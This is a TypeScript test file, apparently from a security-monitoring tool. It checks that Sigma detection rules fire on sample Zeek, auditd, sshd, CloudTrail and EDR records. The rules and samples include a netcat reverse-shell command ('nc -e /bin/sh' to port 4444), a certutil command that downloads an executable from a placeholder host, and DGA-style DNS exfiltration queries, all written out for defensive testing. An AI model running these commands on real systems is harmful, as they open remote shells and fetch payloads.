/**
 * Processing pipelines for the non-Windows sources, end to end: a native record (Zeek JSON, an
 * auditd line, an sshd syslog line, a CloudTrail record, ECS process telemetry from an EDR) goes
 * through Garrison's parser registry, then through SigmaStage with rules written against
 * Sigma's taxonomy for that log source (SigmaHQ field names). Field-name differences are handled
 * by the pipeline, not by editing rules: each rule below must fire on its record and on nothing else.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { GarrisonEvent } from '../../core/event.js';
import { parseRecord } from '../../normalize/registry.js';
import { SigmaStage } from '../engine.js';

const rule = (id: string, logsource: string, detection: string) => `title: ${id}
id: ${id}
status: test
level: medium
logsource: ${logsource}
detection:
${detection.replace(/^/gm, '  ')}
`;

const RULES: Record<string, string> = {
  'zeek-dns': rule('zeek-dns', '{ product: zeek, service: dns }', `sel:\n  query|endswith: '.evil-dga.net'\n  qtype_name: TXT\ncondition: sel`),
  'generic-dns': rule('generic-dns', '{ category: dns }', `sel:\n  query|contains: 'evil-dga'\ncondition: sel`),
  'zeek-conn': rule('zeek-conn', '{ product: zeek, service: conn }', `sel:\n  id.resp_p: 4444\n  id.orig_h|cidr: '10.0.0.0/8'\ncondition: sel`),
  'auditd-execve': rule('auditd-execve', '{ product: linux, service: auditd }', `sel:\n  type: EXECVE\n  a0: nc\n  a1: '-e'\ncondition: sel`),
  'linux-proc': rule('linux-proc', '{ product: linux, category: process_creation }', `sel:\n  CommandLine|contains: 'nc -e /bin/sh'\ncondition: sel`),
  'sshd-keywords': rule('sshd-keywords', '{ product: linux, service: sshd }', `keywords:\n  - 'Failed password for invalid user'\ncondition: keywords`),
  'cloudtrail': rule('cloudtrail', '{ product: aws, service: cloudtrail }', `sel:\n  eventSource: iam.amazonaws.com\n  eventName: CreateAccessKey\n  userIdentity.type: IAMUser\ncondition: sel`),
  'edr-proc': rule('edr-proc', '{ product: windows, category: process_creation }', `sel:\n  Image|endswith: '\\\\certutil.exe'\n  CommandLine|contains: 'urlcache'\n  ParentImage|endswith: '\\\\cmd.exe'\ncondition: sel`),
  'edr-net': rule('edr-net', '{ category: network_connection }', `sel:\n  DestinationPort: 4444\n  Image|endswith: 'nc.exe'\ncondition: sel`),
};

const T = '2026-01-05T10:00:00.000Z';
const RECORDS: { name: string; format?: string; data: string; meta?: Record<string, unknown>; fires: string[] }[] = [
  { name: 'zeek dns TXT', format: 'zeek', data: JSON.stringify({ _path: 'dns', ts: T, uid: 'C1', 'id.orig_h': '10.1.1.5', 'id.orig_p': 51000, 'id.resp_h': '10.1.1.1', 'id.resp_p': 53, proto: 'udp', query: 'aGVsbG8.evil-dga.net', qtype_name: 'TXT' }), fires: ['generic-dns', 'zeek-dns'] },
  { name: 'zeek dns A', format: 'zeek', data: JSON.stringify({ _path: 'dns', ts: T, uid: 'C2', 'id.orig_h': '10.1.1.5', 'id.orig_p': 51001, 'id.resp_h': '10.1.1.1', 'id.resp_p': 53, proto: 'udp', query: 'www.example.com', qtype_name: 'A' }), fires: [] },
  { name: 'zeek conn', format: 'zeek', data: JSON.stringify({ _path: 'conn', ts: T, uid: 'C3', 'id.orig_h': '10.1.1.5', 'id.orig_p': 50000, 'id.resp_h': '203.0.113.9', 'id.resp_p': 4444, proto: 'tcp', orig_bytes: 100, resp_bytes: 2000 }), fires: ['zeek-conn'] },
  {
    name: 'auditd execve event (SYSCALL + EXECVE + PROCTITLE)',
    format: 'auditd',
    data: [
      'type=SYSCALL msg=audit(1767607200.123:42): arch=c000003e syscall=59 success=yes exit=0 ppid=100 pid=200 auid=1000 uid=1000 comm="nc" exe="/usr/bin/nc.openbsd" key="exec"',
      'type=EXECVE msg=audit(1767607200.123:42): argc=3 a0="nc" a1="-e" a2="/bin/sh"',
      'type=PROCTITLE msg=audit(1767607200.123:42): proctitle=6E63002D65002F62696E2F7368',
    ].join('\n'),
    fires: ['auditd-execve', 'linux-proc'],
  },
  // A lone EXECVE record (no PROCTITLE): auditd's own field names still match; the generic
  // process_creation rule does not, because the command line is only assembled into entities.
  { name: 'auditd lone EXECVE record', format: 'auditd', data: 'type=EXECVE msg=audit(1767607200.123:43): argc=3 a0="nc" a1="-e" a2="/bin/sh"', fires: ['auditd-execve'] },
  { name: 'sshd failure', format: 'syslog', data: '<38>Jan  5 10:00:00 web-01 sshd[1234]: Failed password for invalid user admin from 198.51.100.7 port 50123 ssh2', fires: ['sshd-keywords'] },
  { name: 'cron line', format: 'syslog', data: '<78>Jan  5 10:00:00 web-01 CRON[99]: (root) CMD (Failed password for invalid user in a cron job)', fires: [] },
  {
    name: 'CloudTrail CreateAccessKey',
    format: 'cloudtrail',
    data: JSON.stringify({ eventVersion: '1.08', eventTime: T, eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey', awsRegion: 'us-east-1', sourceIPAddress: '198.51.100.7', userIdentity: { type: 'IAMUser', userName: 'ci-deployer', arn: 'arn:aws:iam::123456789012:user/ci-deployer' }, requestParameters: { userName: 'ci-deployer' } }),
    fires: ['cloudtrail'],
  },
  {
    name: 'ECS process start (EDR JSON)',
    format: 'json',
    data: JSON.stringify({ '@timestamp': T, event: { category: 'process', type: 'start' }, host: { name: 'ws-9', os: { type: 'windows' } }, process: { executable: 'C:\\Windows\\System32\\certutil.exe', command_line: 'certutil -urlcache -f http://x/a.exe a.exe', parent: { executable: 'C:\\Windows\\System32\\cmd.exe' } }, user: { name: 'bob' } }),
    fires: ['edr-proc'],
  },
  {
    name: 'ECS network (EDR JSON)',
    format: 'json',
    data: JSON.stringify({ '@timestamp': T, event: { category: 'network' }, host: { name: 'ws-9', os: { type: 'windows' } }, process: { executable: 'C:\\Users\\bob\\nc.exe' }, destination: { ip: '203.0.113.9', port: 4444 }, source: { ip: '10.1.1.9', port: 50000 } }),
    fires: ['edr-net'],
  },
];

describe('pipelines for Zeek, Linux (auditd, syslog), CloudTrail and EDR JSON, end to end', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'sigma-sources-'));
  for (const [id, text] of Object.entries(RULES)) writeFileSync(path.join(dir, `${id}.yml`), text);
  const stage = new SigmaStage({ builtin: false, rulePaths: [dir] });

  it('loads every rule', () => {
    expect(stage.problems).toEqual([]);
    expect(stage.matcher.rules.map((r) => r.id).sort()).toEqual(Object.keys(RULES).sort());
  });
  for (const r of RECORDS) {
    it(`${r.name} → ${r.fires.length ? r.fires.join(', ') : 'nothing'}`, () => {
      const p = parseRecord({ data: r.data, origin: `test:${r.name}`, input: 'test', tenant: 't', receivedAt: Date.parse(T), format: r.format as never, meta: r.meta });
      expect(p.ok, p.ok ? '' : (p as { error: Error }).error.message).toBe(true);
      const ev = (p as { event: GarrisonEvent }).event;
      const fired = stage.process([ev]).map((s) => s.detector).sort();
      expect(fired).toEqual([...r.fires].sort());
    });
  }
});
